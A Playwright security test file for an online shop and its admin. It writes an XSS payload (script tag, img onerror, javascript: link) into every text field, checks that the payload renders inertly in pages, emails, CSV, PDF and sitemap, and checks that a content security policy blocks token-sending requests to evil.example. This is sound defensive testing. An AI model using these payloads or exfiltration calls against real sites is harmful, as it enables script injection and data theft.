import { randomBytes } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, openShop, type Shop, test } from '@shop/browser-testing';
import { openAdmin, showSection } from './support/admin-journey';
import { placeOrder } from './support/orders-journey';

const MARK = 'Hostile';
const SCRIPT = `${MARK} "'></title></script><script>window.attacked=1</script><img src=x onerror=window.attacked=1>`;
/** Anything in this file that ran, or that became an element instead of text. */
const TRACES = 'img[src="x"], [onerror], script:not([src]):not([type="application/json"]):not([type="application/ld+json"])';

let shop: Shop;
test.beforeAll(async () => {
  shop = await openShop({ worker: true });
});
test.afterAll(() => shop.stop());

async function post(page: Page, path: string, data: object): Promise<string> {
  const token = await page.evaluate(() => localStorage.getItem('adminToken'));
  const response = await page.request.post(`${shop.origin}${path}`, { headers: { authorization: `Bearer ${token}` }, data });
  expect([path, response.status(), await response.text()]).toEqual([path, 201, expect.any(String)]);
  return ((await response.json()) as { id: string }).id;
}

/** Writes the script into every free text that a shopper or an admin can fill in. */
async function storeScripts(page: Page) {
  const artistId = await post(page, '/api/admin/artists', { name: SCRIPT, location: SCRIPT, story: SCRIPT });
  const categoryId = await post(page, '/api/admin/categories', {
    name: SCRIPT,
    slug: `hostile-${randomBytes(4).toString('hex')}`,
  });
  const product = { name: SCRIPT, description: SCRIPT, price: '48.00', categoryId, artistId, stockQuantity: 9 };
  const productId = await post(page, '/api/admin/products', {
    ...product,
    isNew: true,
    isBestSeller: true,
    isArtistSeries: true,
  });
  const invoice = { clientName: SCRIPT, clientEmail: 'noor@example.com', clientPhone: null, status: 'draft', notes: SCRIPT };
  const item = { invoiceId: '', productId: 'custom', customProductName: SCRIPT, quantity: 1, unitPrice: '10.00' };
  const invoiceId = await post(page, '/api/invoices', { invoice, items: [{ ...item, customProductPrice: '10.00' }] });
  await post(page, '/api/contact', { name: SCRIPT, email: 'noor@example.com', subject: 'general', message: SCRIPT });
  const address = { street: SCRIPT, city: SCRIPT, state: 'MD', zipCode: '21202', country: 'United States' };
  const order = await placeOrder(page, shop, { customerName: SCRIPT, shippingAddress: address });
  await post(page, `/api/admin/orders/${order.id}/notes`, { text: SCRIPT });
  return { artistId, productId, invoiceId, orderId: order.id };
}

async function expectHarmless(page: Page, where: string): Promise<void> {
  const found = await page.evaluate((traces) => {
    const attacked: unknown = Reflect.get(window, 'attacked');
    return { attacked, elements: [...document.querySelectorAll(traces)].map(({ outerHTML }) => outerHTML.slice(0, 100)) };
  }, TRACES);
  expect([where, found]).toEqual([where, { attacked: undefined, elements: [] }]);
}

const ONE_LINE = SCRIPT.slice(0, 80);

/** The announcement bar and a page, which every visitor of the shop sees. */
async function storeScriptsInSettings(page: Page): Promise<void> {
  const token = await page.evaluate(() => localStorage.getItem('adminToken'));
  const headers = { authorization: `Bearer ${token}` };
  const save = async (path: string, data: object) => {
    const response = await page.request.put(`${shop.origin}/api/admin/${path}`, { headers, data });
    expect([path, response.status(), await response.text()]).toEqual([path, 200, expect.any(String)]);
  };
  const { version } = (await (await page.request.get(`${shop.origin}/api/admin/settings`, { headers })).json()) as {
    version: number;
  };
  await save('settings/announcement', { version, values: { announcement: { text: ONE_LINE, link: null } } });
  await save('pages/careers', {
    version: 0,
    title: ONE_LINE,
    body: `${SCRIPT}\n\n[${MARK}](javascript:alert(1))`,
    published: true,
  });
}

async function visit(page: Page, path: string): Promise<void> {
  await page.goto(`${shop.origin}${path}`);
  await expect(page.getByText(MARK).filter({ visible: true }).first()).toBeVisible();
  await expectHarmless(page, path);
}

const SECTIONS = 'products categories artists invoices orders messages activity settings settings/pages'.split(' ');

/** Emails, JSON-LD, sitemap, CSV and PDF: what no screen of the admin shows. */
async function expectHarmlessFiles(page: Page, invoiceId: string): Promise<void> {
  const folder = join(shop.dataDir, 'mail');
  const mails = async () => (await readdir(folder).catch(() => [])).filter((name) => name.endsWith('.html'));
  await expect.poll(async () => (await mails()).length, { timeout: 30_000 }).toBeGreaterThanOrEqual(2);
  for (const name of await mails()) expect(await readFile(join(folder, name), 'utf8')).not.toMatch(/<(script|img src=x)/);
  const headers = { authorization: `Bearer ${await page.evaluate(() => localStorage.getItem('adminToken'))}` };
  const read = async (path: string) => {
    const response = await page.request.get(`${shop.origin}${path}`, { headers });
    expect([path, response.status()]).toEqual([path, 200]);
    return response;
  };
  const sitemap = await (await read('/sitemap.xml')).text();
  const elements = await page.evaluate(
    (xml) => [...new DOMParser().parseFromString(xml, 'application/xml').querySelectorAll('*')].map(({ nodeName }) => nodeName),
    sitemap,
  );
  expect(elements).toEqual(expect.arrayContaining(['urlset', 'loc']));
  expect(elements.filter((name) => /script|img|html|parsererror/i.test(name))).toEqual([]);
  for (const path of ['/api/admin/orders/export.csv', '/api/admin/audit/export.csv']) {
    const csv = await read(path);
    expect(csv.headers()['content-type']).toContain('text/csv');
    expect(csv.headers()['x-content-type-options']).toBe('nosniff');
    expect(await csv.text()).not.toMatch(/(^|,)"?[=+@]/m);
  }
  const pdf = async () => {
    const response = await page.request.get(`${shop.origin}/api/invoices/${invoiceId}/pdf`, { headers });
    return response.status() === 200 ? (await response.body()).toString('latin1') : '';
  };
  await expect.poll(async () => (await pdf()).slice(0, 5), { timeout: 60_000 }).toBe('%PDF-');
  expect(await pdf()).not.toMatch(/\/(JavaScript|JS|OpenAction|AA|Launch|URI)\b/);
}

test('a script in any text is shown as text: shop, admin, settings, pages, print, emails, PDF, CSV, JSON-LD and sitemap (threats 68, 69 and 73)', async ({
  page,
}) => {
  test.slow();
  await openAdmin(page, `${shop.origin}/admin`);
  const { artistId, productId, invoiceId, orderId } = await storeScripts(page);
  await storeScriptsInSettings(page);
  const shopPages = [
    '/',
    '/pages/careers',
    '/products',
    `/products/${productId}`,
    `/share/${productId}`,
    '/artists',
    `/artists/${artistId}`,
  ];
  for (const path of [...shopPages, `/products?search=${encodeURIComponent(SCRIPT)}`, `/order-confirmation/${orderId}`]) {
    await visit(page, path);
  }
  await page.goto(`${shop.origin}/admin`);
  for (const section of SECTIONS) {
    await showSection(page, section);
    await expect(page.getByText(MARK).filter({ visible: true }).first()).toBeVisible();
    await expectHarmless(page, section);
  }
  for (const tab of ['products', 'categories', 'artists', 'invoices']) {
    await showSection(page, tab);
    const edit = page.getByRole('button', { name: /^Edit/ }).first();
    await expect(async () => {
      await edit.click();
      await expect(page.getByRole('dialog')).toBeVisible({ timeout: 2_000 }); // A late list replaces the button.
    }).toPass();
    await expectHarmless(page, `the form of ${tab}`);
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toBeHidden();
  }
  await showSection(page, `orders/${orderId}`);
  await page.getByRole('button', { name: /packing slip/i }).click();
  await expectHarmless(page, 'the packing slip');

  await visit(page, `/products/${productId}`);
  const linked = await page.locator('script[type="application/ld+json"]').allTextContents();
  expect(linked.length).toBeGreaterThan(0);
  expect(JSON.stringify(linked.map((text) => JSON.parse(text) as unknown))).toContain(MARK);

  await expectHarmlessFiles(page, invoiceId);
});

test('the admin runs no inline script and sends nothing to other hosts (threat 47)', async ({ page, consoleNoise }) => {
  await openAdmin(page, `${shop.origin}/admin`);
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.attacked = 1';
    document.head.append(script);
    const image = document.createElement('div');
    image.innerHTML = '<img src="data:," onerror="window.attacked = 1">';
    document.body.append(image);
    const blocked = (request: Promise<unknown>) =>
      request.then(
        () => 'sent',
        () => 'blocked',
      );
    const results = [
      await blocked(fetch('https://evil.example/?token=x')),
      await blocked(import(['https://evil.example', 'x.js'].join('/'))),
      await blocked(
        new Promise((resolve, reject) => {
          const beacon = new Image();
          beacon.addEventListener('load', resolve);
          beacon.addEventListener('error', reject);
          beacon.src = 'https://evil.example/?token=x';
        }),
      ),
    ];
    return { attacked: Reflect.get(window, 'attacked') as unknown, results };
  });
  expect(outcome).toEqual({ attacked: undefined, results: ['blocked', 'blocked', 'blocked'] });
  expect(consoleNoise.splice(0).filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(4);
});
